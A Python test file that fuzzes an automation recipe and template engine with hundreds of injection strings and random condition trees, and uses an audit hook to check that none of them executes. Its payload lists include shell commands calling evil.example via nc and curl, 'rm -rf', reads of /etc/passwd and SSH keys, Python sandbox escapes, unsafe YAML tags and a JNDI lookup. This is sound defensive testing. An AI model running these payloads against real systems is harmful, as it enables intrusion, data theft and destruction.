"""No text in a recipe, in a file or in what a customer wrote becomes an act: 300 escapes, 100,000 random trees (SAFETY 10, 11).

All of it runs in a process of its own, in which an audit hook reports whatever Python does: spawn, open, import, compile, connect.
"""

import json
import random
import subprocess
import sys
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field, replace
from datetime import UTC, datetime
from decimal import Decimal
from functools import cache
from itertools import product
from pathlib import Path
from types import FrameType
from typing import Any

import yaml

from automations import comparisons, conditions, filling, reading, recipe
from automations.comparisons import OPERATORS
from automations.recipe import Act
from data.errors import Refused
from tests.test_automations_recipe import DECLARATIONS, LOST

ROOT = Path(__file__).parent.parent.parent
AT = datetime(2026, 11, 22, tzinfo=UTC)
TREES, BODIES, COUNTED = 100_000, 3_000, 2_000  # of so many trees the work is counted
LOOKED_AT = (conditions.__file__, comparisons.__file__)
HARMLESS = {"builtins.id"}  # what Python reports that reaches nothing

# Escapes: what is tried, in each dress in which something might run it

PYTHON = [
    "__import__('os').system('id')", "().__class__.__bases__[0].__subclasses__()", "open('/etc/passwd').read()", "exec('import os')",
    "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen']", "eval(compile('1','x','eval'))", "globals()",
    "breakpoint()", "getattr(__builtins__,'eval')('1')", "lambda: (yield)", "''.__class__.__mro__[1]",
    "__builtins__['__import__']('socket')", "f'{__import__(\"os\").getcwd()}'", "order.__init__.__globals__", "message.text.__class__",
    "7*7", "9**9**9**9", "import os; os.fork()",
]  # fmt: skip
SHELL = [
    "id", "cat /etc/passwd", "$(id)", "`id`", "; rm -rf /tmp/x", "| nc evil.example 80", "&& curl evil.example", "${IFS}id", "%0aid",
    "\nid\n",
]  # fmt: skip
SCRIPT = [
    "<script>fetch('//evil.example')</script>", "constructor.constructor('return process')()", "javascript:alert(1)",
    "process.mainModule.require('fs')", "require('child_process').exec('id')", "this.constructor.constructor('return this')()",
    "new Function('return 1')()", "$json.x", "={{$env}}",
]  # fmt: skip
SQL = [
    "' OR 1=1 --", "'; DROP TABLE person; --", '" UNION SELECT * FROM person', "1; ATTACH DATABASE '/tmp/x' AS y",
    "\\'; COPY x TO PROGRAM 'id'",
]  # fmt: skip
PATHS = [
    "../../etc/passwd", "/etc/passwd", "file:///etc/passwd", "C:\\Windows\\win.ini", "%2e%2e%2f", "\\\\evil.example\\x", "~/.ssh/id_rsa",
    "/proc/self/environ",
]  # fmt: skip
YAMLS = [
    "!!python/object/apply:os.system ['id']", "!!python/object/new:subprocess.Popen [['id']]", "!!python/name:os.system",
    "!!python/module:os", "!!python/object/apply:builtins.eval ['1']", "&a [*a]", "*a", "<<: *a", "!!binary aWQ=", "!include /etc/passwd",
    "!!map {a: b}", "--- !<tag> x", "? [a]",
]  # fmt: skip
FORMATS = [
    "{0.__class__}", "{order.__class__.__init__.__globals__}", "{x!r:>{y}}", "%(x)s", "%s%s%s%n", "${x.__class__}", "$order", "#{7*7}",
    "{:>999999999}", "{message[text]}", "%{(#a=1)}", "${jndi:ldap://evil.example/x}", "<%= 7*7 %>", "#set($x=1)$x", "@(1+2)",
    "[[${7*7}]]",
]  # fmt: skip
LOOK_ALIKES = [
    "｛｛order.total｝｝", "{\u200b{order.total}}", "{{ord\u0435r.total}}", "{{order․total}}", "＿＿import＿＿('os')",
    "{{order.total\u202e}}", "{{\ufefforder.total}}", "ⅇval(1)", "{{order.\uff54otal}}", "\u202e}}latot.redro{{", "{{order\u3002total}}",
    "e\u0301val(1)",
]  # fmt: skip
BRACES = [
    "{{{{order.total}}}}", "{{{order.total}}}", "{{ {{order.total}} }}", "{{order.total}", "{order.total}}", "{{}}", "{{{}}}", "}}{{",
    "{{order..total}}", "{{.order}}", "{{order.}}", "{{order total}}", "{{order|safe}}", "{{order.total()}}", "{{order['total']}}",
    "{{#each x}}{{/each}}", "{{> x}}", "{{!x}}", "{{{" * 200, "{{" * 2_000, "{{a" * 2_000, "{{ " + "a." * 2_000 + "a }}",
]  # fmt: skip
DRESSES = ["{}", "{{{{{}}}}}", "{{{{ {} | attr('x') }}}}", "{{% if {} %}}x{{% endif %}}", "${{{}}}", "{{{}}}", "=({})", "<%= {} %>"]


@cache
def escapes() -> list[str]:
    dressed = [dress.format(core) for core, dress in product([*PYTHON, *SHELL, *SCRIPT], DRESSES)]
    alone = [*SQL, *PATHS, *YAMLS, *FORMATS, *LOOK_ALIKES, *BRACES]
    return list(dict.fromkeys([*dressed, *alone]))


# Each is put where there is room for a text


def places(value: Any, text: str) -> Iterator[Any]:
    """The same body once for each text in it, and once for each name, with this in its place."""
    if isinstance(value, str):
        yield text
    elif isinstance(value, dict):
        for name, inner in value.items():
            yield {(text if one == name else one): kept for one, kept in value.items()}
            yield from ({**value, name: made} for made in places(inner, text))
    elif isinstance(value, list):
        for place, inner in enumerate(value):
            yield from ([*value[:place], made, *value[place + 1 :]] for made in places(inner, text))


FILES = (
    "name: {}\n", "name: '{}'\n", 'name: x\ntitle: "{}"\n', "{}: x\n", "name: x\nwhat: |\n  {}\n", "name: x\nwhen: {}\n", "{}\n",
    "name: x\nsteps:\n  - {{step: refund, name: a, with: {{amount: {} }}}}\n", "name: x\nsteps: {}\n", "name: x # {}\n",
    "%TAG ! {}\n---\nname: x\n",
)  # fmt: skip
FACTS: dict[str, Any] = {"order": {"total": Decimal(5), "status": "lost"}, "message": {"text": "x"}, "conversation": {"subject": "1"}}


@dataclass
class Seen:
    """What came of it all."""

    tried: int = 0
    refused: int = 0
    held: int = 0
    wrong: list[str] = field(default_factory=list)  # anything but a value or a refusal
    events: list[str] = field(default_factory=list)  # of the audit hook

    def attempt(self, what: str, act: Callable[[], Any]) -> Any:
        self.tried += 1
        try:
            return act()
        except Refused:
            self.refused += 1
        except BaseException as error:
            self.wrong.append(f"{what}: {type(error).__name__}")
        return None


def used(made: recipe.Recipe) -> None:
    """Everything that is done with a recipe before and while it runs, but for its steps."""
    recipe.flow(made)
    recipe.differences(LOST, made)
    for act in made.acts:
        filling.names_in(act.given)
        filling.value_of(act.given, FACTS)
    recipe.check(made, DECLARATIONS)


def read_and_used(body: Any) -> None:
    used(recipe.of(body))


def as_text(seen: Seen, text: str) -> None:
    for body in places(LOST.as_body(), text):
        seen.attempt(f"body {text[:40]}", lambda body=body: read_and_used(body))
    for file in FILES:
        seen.attempt(f"file {text[:40]}", lambda file=file: used(reading.read(file.format(text), DECLARATIONS)))
    whole = replace(LOST, title=text, what=text, acts=(Act(text, text, {text: text, "x": [text, {text: text}]}),))
    again = seen.attempt(f"round trip {text[:40]}", lambda: reading.read(reading.written(whole)))
    if again is not None and again != whole:
        seen.wrong.append(f"{text[:40]} came back otherwise")


def as_fact(seen: Seen, text: str) -> None:
    facts = {"message": {"text": text, text: text}, text: text}
    if filling.filled("a {{message.text}} b", facts) != f"a {text} b" and text.strip():
        seen.wrong.append(f"{text[:40]} was changed on its way")
    seen.attempt(f"template {text[:40]}", lambda: filling.filled(text, facts))
    seen.attempt(f"value {text[:40]}", lambda: filling.value_of({"a": text, "b": [text]}, facts))
    for tree in ({text: "is known"}, {"message.text": text}, {"message.text": {text: 5}}, {text: [{"message.text": "is known"}]}):
        seen.attempt(f"condition {text[:40]}", lambda tree=tree: conditions.holds(tree, facts, AT))
    for name, than in product(OPERATORS, (text, [text], {"value": text}, {"value": "message.text"})):
        tree = {"message.text": {name: than}}
        seen.held += bool(seen.attempt(f"condition {text[:40]}", lambda tree=tree: conditions.holds(tree, facts, AT)))


# Random trees


def random_value(rng: random.Random, depth: int = 0) -> Any:
    kinds: list[Callable[[], Any]] = [
        lambda: rng.choice(escapes()), lambda: rng.randint(-(10**6), 10**6), lambda: rng.random() * 100, lambda: rng.random() < 0.5,
        lambda: None,
        lambda: rng.choice(["lost", "x", "2026-11-01", "5", ""]), lambda: 10 ** rng.randint(0, 400), lambda: float(rng.choice(["nan",
        "inf", "-0.0"])),
        lambda: {"value": random_name(rng)},
    ]  # fmt: skip
    if depth < 3:
        kinds += [lambda: [random_value(rng, depth + 1) for _ in range(rng.randint(0, 4))]] * 2
        kinds += [lambda: {random_name(rng): random_value(rng, depth + 1) for _ in range(rng.randint(0, 3))}]
    return rng.choice(kinds)()


def random_name(rng: random.Random) -> str:
    return rng.choice(["order.total", "order.status", "message.text", "order", "x", "a.b.c"] if rng.random() < 0.9 else escapes())


def random_leaf(rng: random.Random) -> Any:
    """Mostly right, for what is wrong at once is not looked at any further."""
    if rng.random() < 0.1:
        return random_value(rng)
    operator = rng.choice(list(OPERATORS))
    fitting = {
        "nothing": lambda: None, "a number": lambda: rng.randint(0, 10), "two numbers": lambda: [1, rng.randint(1, 9)],
        "a word": lambda: "lost",
        "a list": lambda: [random_value(rng, 3), "lost"], "a value": lambda: random_value(rng, 3), "days": lambda: rng.randint(0, 40),
    }  # fmt: skip
    than = fitting[OPERATORS[operator].takes]()
    return {random_name(rng): operator if than is None else {operator: than}}


def random_tree(rng: random.Random, depth: int) -> Any:
    if depth == 0 or rng.random() < 0.3:
        return random_leaf(rng)
    key = rng.choice(["all", "any", "not"])
    if key == "not":
        return {"not": random_tree(rng, depth - 1)}
    return {key: [random_tree(rng, depth - 1) for _ in range(rng.choice([0, 1, 2, 2, 3, 3, 300 if rng.random() < 0.01 else 4]))]}


def random_facts(rng: random.Random) -> dict[str, Any]:
    return {
        "order": {"total": random_value(rng), "status": random_value(rng)},
        "message": {"text": random_value(rng)},
        "x": random_value(rng),
    }


def one_tree(seen: Seen, rng: random.Random, count: int) -> None:
    tree, facts = random_tree(rng, rng.choice([1, 2, 3, 3, 4, 9])), random_facts(rng)

    def looked_at() -> bool:
        return conditions.holds(tree, facts, AT) and bool(conditions.told(tree))

    seen.held += bool(seen.attempt(f"tree {count}", looked_at))


def one_body(seen: Seen, rng: random.Random, count: int) -> None:
    """A right recipe of which some parts are replaced by anything at all."""
    body = LOST.as_body()
    for _ in range(rng.randint(1, 3)):
        where: Any = body
        while isinstance(where, dict | list) and where:
            key = rng.choice(list(where)) if isinstance(where, dict) else rng.randrange(len(where))
            if not isinstance(where[key], dict | list) or rng.random() < 0.3:
                where[key] = random_value(rng) if rng.random() < 0.7 else random_tree(rng, 3)
                break
            where = where[key]
    seen.attempt(f"body {count}", lambda: read_and_used(body))


# In a process of its own


def with_escapes(seen: Seen) -> None:
    for text in escapes():
        as_text(seen, text)
        as_fact(seen, text)


def with_trees(seen: Seen) -> None:
    rng = random.Random(10)
    for count in range(TREES):
        one_tree(seen, rng, count)
    for count in range(BODIES):
        one_body(seen, rng, count)


def with_code(seen: Seen) -> None:
    """The control: what others did with such texts. Nothing in it is answered by a server, and nothing lasts."""
    for text in ("__import__('colorsys')", "open('/etc/hostname').read()", "__import__('os').system('true')", "().__class__"):
        seen.attempt(text, lambda text=text: eval(text))  # noqa: S307
    seen.attempt("yaml", lambda: yaml.unsafe_load("!!python/object/apply:os.system ['true']"))


WORK = {"escapes": with_escapes, "trees": with_trees, "code": with_code}


def watched(name: str) -> Seen:
    """What is loaded only when it is first needed is loaded before anybody watches."""
    for text in ("x", "{{order.total}}", "refnd", "a: &a [*a]", "naem"):
        as_text(Seen(), text)
        as_fact(Seen(), text)
    seen, events, watching = Seen(), Counter[str](), [True]
    sys.addaudithook(lambda event, _args: events.update([event]) if watching[0] else None)
    WORK[name](seen)
    watching[0] = False
    seen.events = [f"{event} × {count}" for event, count in sorted(events.items()) if event not in HARMLESS]
    return seen


def outcome(name: str) -> Seen:
    done = subprocess.run([sys.executable, "-m", __name__, name], cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr[-2_000:]
    seen = Seen(**json.loads(done.stdout))
    print(f"{name}: {seen.tried:,} tried, {seen.refused:,} refused, {seen.held:,} held, {len(seen.wrong)} wrong, events {seen.events}")
    return seen


def counted(act: Callable[[], Any]) -> tuple[Any, int]:
    """With how many calls of functions in the two modules it took."""
    calls = [0]

    def look(frame: FrameType, event: str, _arg: Any) -> None:
        calls[0] += event == "call" and frame.f_code.co_filename in LOOKED_AT

    sys.setprofile(look)
    try:
        return act(), calls[0]
    finally:
        sys.setprofile(None)


def test_no_escape_becomes_an_act() -> None:
    seen = outcome("escapes")
    assert len(escapes()) >= 300 and seen.tried > 300 * 100
    assert seen.events == [] and seen.wrong == []
    assert 0 < seen.refused < seen.tried and seen.held > 4 * 300  # a text is what it is, holds itself, is among itself ...


def test_no_random_tree_becomes_an_act_or_an_error() -> None:
    seen = outcome("trees")
    assert seen.tried == TREES + BODIES and seen.events == [] and seen.wrong == []
    assert seen.held > TREES // 50 and TREES // 10 < seen.refused < TREES * 9 // 10  # neither all nonsense nor all plain


def test_no_random_tree_is_endless_work() -> None:
    rng, largest = random.Random(11), {"all": [{"x": {"is one of": ["a", 1]}}] * (conditions.MOST_NODES - 1)}
    _, fair = counted(lambda: conditions.told(largest))
    calls = [counted(lambda count=count: one_tree(Seen(), rng, count))[1] for count in range(COUNTED)]
    print(f"most calls for one tree: {max(calls):,}; for the largest that is allowed: {fair:,}")
    assert fair > conditions.MOST_NODES and max(calls) <= 5 * fair


def test_the_watcher_sees_what_a_program_does() -> None:
    seen = outcome("code")
    assert {"compile", "exec", "open", "import", "os.system"} <= {event.split(" × ")[0] for event in seen.events}


if __name__ == "__main__":
    print(json.dumps(asdict(watched(sys.argv[1]))))
